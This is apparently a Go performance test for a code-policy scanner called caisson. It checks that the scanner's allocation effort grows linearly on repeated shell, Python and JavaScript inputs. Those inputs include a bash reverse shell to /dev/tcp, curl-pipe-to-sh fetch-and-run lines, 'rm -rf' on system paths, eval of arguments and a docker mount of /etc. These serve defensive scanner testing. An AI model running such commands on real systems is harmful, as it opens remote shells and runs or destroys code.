package main

import (
	"fmt"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/caisson-dev/caisson/policy"
	"github.com/caisson-dev/caisson/policy/facts"
)

// alike is a text of many lines that differ by a number, or of one line of many
// such parts between a head and a tail.
type alike struct {
	lang             facts.Lang
	head, each, tail string
}

func (a alike) text(n int) string {
	var b strings.Builder
	b.WriteString(a.head)
	for i := range n {
		b.WriteString(strings.ReplaceAll(a.each, "#", fmt.Sprint(i)))
	}
	return b.String() + a.tail + "\n"
}

// many are texts of one sort of call. What is judged is in the rules' examples;
// these differ from line to line, and have several on a line.
var many = []alike{
	{facts.Shell, "", "kubectl get pods -n ns# -l app=x# --field-selector a=b\n", ""},
	{facts.Shell, "", "kubectl apply -f a#.yaml --dry-run=client; ", ""},
	{facts.Shell, "", "docker compose -f a.yml -p x# up -d svc#\n", ""},
	{facts.Shell, "", "docker run --name a# alpine; docker rm -f a#; ", ""},
	{facts.Shell, "", "podman run --rm --cap-add=X# alpine sh\n", ""},
	{facts.Shell, "", "rm -rf /opt/a#\n", ""},
	{facts.Shell, "touch", " /opt/a#", ""},
	{facts.Shell, "", "ls -d /etc/x#; find /usr/bin -name abc#\n", ""},
	{facts.Shell, "", "mkdir -p ~/d#; rm -rf ~/d#/x\n", ""},
	{facts.Shell, "", "kill -1 #\n", ""},
	{facts.Shell, "", "env | grep ^A#=; ", ""},
	{facts.Shell, "", "bash -i >& /dev/tcp/10.0.0.1/#\n", ""},
	{facts.Shell, "", "curl https://h#.example.com/x | sh\n", ""},
	{facts.Shell, "curl x", " | p# | sh", ""},
	{facts.Shell, "", "$x# a b\n", ""},
	{facts.Python, "import os\n", "os.system('docker exec a# true')\n", ""},
	{facts.Python, "import os\nos.system('", "docker rm a#; docker run --name a# b; ", "')"},
	{facts.Python, "import os, sys\n", "os.mkdir('/tmp/x#'); sys.path.append('/tmp/x#')\n", ""},
	{facts.Python, "import itertools, hashlib\n", "itertools.product('ab', repeat=9)\nhashlib.md5(b'#')\n", ""},
	{facts.Python, "import socket\n", "socket.socket().connect(('127.0.0.1', #))\n", ""},
	{facts.Python, "import sqlite3\n", "sqlite3.connect('/etc/x#').execute('drop table x')\n", ""},
	{facts.Python, "", "eval(x#)\n", ""},
	{facts.JavaScript, "", "require('child_process').execSync('docker run -v /etc:/a a#')\n", ""},
	{facts.JavaScript, "", "eval(process.argv[#])\n", ""},
}

// effort is what a decision takes: how many objects are made for it, and how
// many bytes. Both grow with what is gone through, and unlike time they do not
// depend on what else the machine does.
type effort struct{ objects, bytes float64 }

func effortOf(t *testing.T, p *policy.Policy, lang facts.Lang, text string) effort {
	t.Helper()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	p.Judge(t.Context(), policy.Request{Language: string(lang), Code: []byte(text)})
	runtime.ReadMemStats(&after)
	return effort{float64(after.Mallocs - before.Mallocs), float64(after.TotalAlloc - before.TotalAlloc)}
}

// gathers reports a line that makes something longer each time it runs: a
// variable, a file, the way to a folder. What it comes to is the square of the
// lines already, and the scanner's time is what ends it.
func gathers(code string) bool {
	return slices.ContainsFunc([]string{":$PATH", "PROMPT_COMMAND; ", "cd build", ">> .git"}, func(part string) bool { return strings.Contains(code, part) })
}

// TestEffort: a text of twice the length takes twice the effort, whatever it
// consists of. Where it takes four times that, a text of 200 KB takes minutes.
func TestEffort(t *testing.T) {
	const lines, most = 40, 2.4           // the square would be 4; what is kept grows in steps
	const objects, bytes = 5_000, 500_000 // what else goes on
	p := newPolicy(t)
	cases := many
	for _, r := range p.Rules() {
		for _, e := range append(r.Match, r.NotMatch...) {
			if lang := facts.ParseLang(e.Language); lang != policy.Dockerfile && !gathers(e.Code) {
				cases = append(cases, alike{lang, "", strings.ReplaceAll(e.Code, "#", "") + "\n", ""})
			}
		}
	}
	for _, c := range cases {
		effortOf(t, p, c.lang, c.text(lines-1)) // tables and patterns are read when first used
		once, twice := effortOf(t, p, c.lang, c.text(lines)), effortOf(t, p, c.lang, c.text(2*lines))
		if twice.objects > most*once.objects+objects || twice.bytes > most*once.bytes+bytes {
			t.Errorf("%s %q: %.0f objects and %.0f bytes for %d, %.1f and %.1f times that for twice as many",
				c.lang, c.head+c.each, once.objects, once.bytes, lines, twice.objects/once.objects, twice.bytes/once.bytes)
		}
	}
}
